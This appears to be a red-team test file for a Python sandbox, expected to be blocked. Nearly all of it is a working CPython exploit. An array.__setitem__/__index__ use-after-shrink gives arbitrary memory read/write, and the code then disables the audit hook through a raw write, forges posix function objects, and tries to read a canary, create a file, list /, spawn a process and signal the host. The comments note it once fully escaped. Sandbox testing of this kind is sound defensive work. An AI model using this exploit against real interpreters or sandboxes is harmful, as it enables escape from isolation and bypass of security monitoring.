# expect: blocked
# modes: process
# Red team (process mode): array.__setitem__ checks the index, then calls
# __index__, which may shrink the array: an 8-byte heap write past the
# buffer, groomed into an arbitrary read/write; the audit hook is switched
# off through _PyRuntime and posix functions are forged.  In-process this
# is a full escape (so it runs in process mode only); in a worker the
# kernel must refuse everything it then tries.  It once succeeded: the
# interpreter thread was created before seccomp and Landlock applied.
import array, struct
_keep = []
def _get_mem():
    fake_hdr = struct.pack('<qqqqqqq', 1<<40, id(bytearray), 0x7fffffffffffffff, 0x7fffffffffffffff, 0, 0, 0)
    fake = bytes(fake_hdr)
    _keep.append(fake)
    target = id(fake) + 32
    groom = [[None]*100 for _ in range(300)] + [array.array('q',[0]*150) for _ in range(100)]
    _keep.append(groom)
    for (N, K, n, slot) in ((200, 20, 100, 10),)*3:
        a = array.array('q', [0]*N)
        holder = {}
        class X:
            def __index__(self):
                del a[1:]
                L = [None]*n
                holder['L'] = L
                return target
        a[K] = X()
        L = holder['L']
        _keep.append(L); _keep.append(a)
        for j, v in enumerate(L):
            if v is not None:
                return v
    raise RuntimeError('no hit')
mem = _get_mem()
def rd(addr, n=8): return bytes(mem[addr:addr+n])
def r64(addr): return struct.unpack('<Q', rd(addr))[0]
def w64(addr, v): mem[addr:addr+8] = struct.pack('<Q', v)
def wr(addr, b): mem[addr:addr+len(b)] = b
def u64(b,o=0): return struct.unpack_from('<Q', b, o)[0]
def u32(b,o=0): return struct.unpack_from('<I', b, o)[0]
def find_base(ptr):
    base = ptr & ~0xfff
    while rd(base, 4) != b'\x7fELF': base -= 0x1000
    return base
def dynsyms(base):
    eh = rd(base, 64)
    phoff = u64(eh, 32); phnum = struct.unpack_from('<H', eh, 56)[0]
    dyn = None
    for i in range(phnum):
        ph = rd(base+phoff+56*i, 56)
        if u32(ph) == 2: dyn = base + u64(ph, 16)
    d = {}
    i = 0
    while True:
        tag, val = r64(dyn+16*i), r64(dyn+16*i+8)
        if tag == 0: break
        d.setdefault(tag, val); i += 1
    symtab, strtab, strsz = d[6], d[5], d[10]
    if symtab < base: symtab += base
    if strtab < base: strtab += base
    strs = rd(strtab, strsz)
    n = (strtab - symtab)//24
    syms = {}
    blob = rd(symtab, n*24)
    for k in range(n):
        name_off = u32(blob, 24*k); value = u64(blob, 24*k+8)
        if value and name_off < strsz:
            e = strs.index(b'\0', name_off)
            syms[strs[name_off:e].decode('latin1')] = base + value
    return syms
_fk = []
def mkobj(b):
    o = bytes(b); _fk.append(o); return id(o)+32
def fake_cfunc(template, meth_ptr, flags, self_addr, name=b'x'):
    nm = mkobj(name+b'\0')
    md = mkobj(struct.pack('<QQQQ', nm, meth_ptr, flags, 0))
    obj = bytearray(rd(id(template), 64))
    struct.pack_into('<Q', obj, 0, 1<<40)
    struct.pack_into('<Q', obj, 16, md)
    struct.pack_into('<Q', obj, 24, self_addr)
    struct.pack_into('<Q', obj, 32, 0)  # m_module
    struct.pack_into('<Q', obj, 40, 0)  # weakreflist
    addr = mkobj(bytes(obj))
    # turn address into object via the L-slot trick: store pointer in a list
    return addr
def addr2obj(addr):
    holder = [None]
    w64(id(holder)+0, r64(id(holder)))  # noop
    items = r64(id(holder)+24)
    w64(items, addr)
    o = holder[0]
    w64(items, id(None))
    return o
lp = find_base(r64(r64(id(len)+16)+8))
syms = dynsyms(lp)
w64(id(-5)-24, 0)   # drop C audit hook list
pi = syms['PyInit_posix']
code = rd(pi, 7); assert code[:3] == b'\x48\x8d\x3d', code.hex()
pdef = pi + 7 + struct.unpack('<i', code[3:7])[0]
meths = {}
p = r64(pdef+64)
while r64(p):
    nm = rd(r64(p), 40); nm = nm[:nm.index(b'\0')].decode()
    meths[nm] = (p, r64(p+16) & 0xffffffff)
    p += 32
templates = {}
import operator, functools
for t in (sorted, getattr, divmod, {}.copy, len, print, iter, next, round, min, max, [].append, functools.reduce, dir, vars, locals, globals):
    f = r64(r64(id(t)+16)+16) & 0xffffffff
    templates.setdefault(f, t)
def posix_fn(name):
    md, flags = meths[name]
    obj = bytearray(rd(id(templates[flags]), 64))
    struct.pack_into('<QQQQQ', obj, 0, 1<<40, r64(id(len)+8), md, id(types_mod), 0)
    struct.pack_into('<Q', obj, 40, 0)
    return addr2obj(mkobj(bytes(obj)))
import types as types_mod
class P:
    def __getattr__(self, n): return posix_fn(n)
posix = P()
_failed = object()
def attempt(f):
    try:
        return f()
    except BaseException:
        return _failed
data = attempt(lambda: posix.read(posix.open(CANARY, 0), 200))
if data is not _failed and data:
    print('ESCAPED: read the canary:', data)
if attempt(lambda: posix.open(MARKER, 0o101, 0o644)) is not _failed:
    print('ESCAPED: created the marker file')
if attempt(lambda: posix.listdir('/')) is not _failed:
    print('ESCAPED: listed /')
if attempt(lambda: posix.system('true')) == 0:
    print('ESCAPED: ran a process')
if attempt(lambda: posix.kill(posix.getppid(), 0)) is not _failed:
    print('ESCAPED: could signal the host')
print('exploit ran; the kernel refused its attempts')
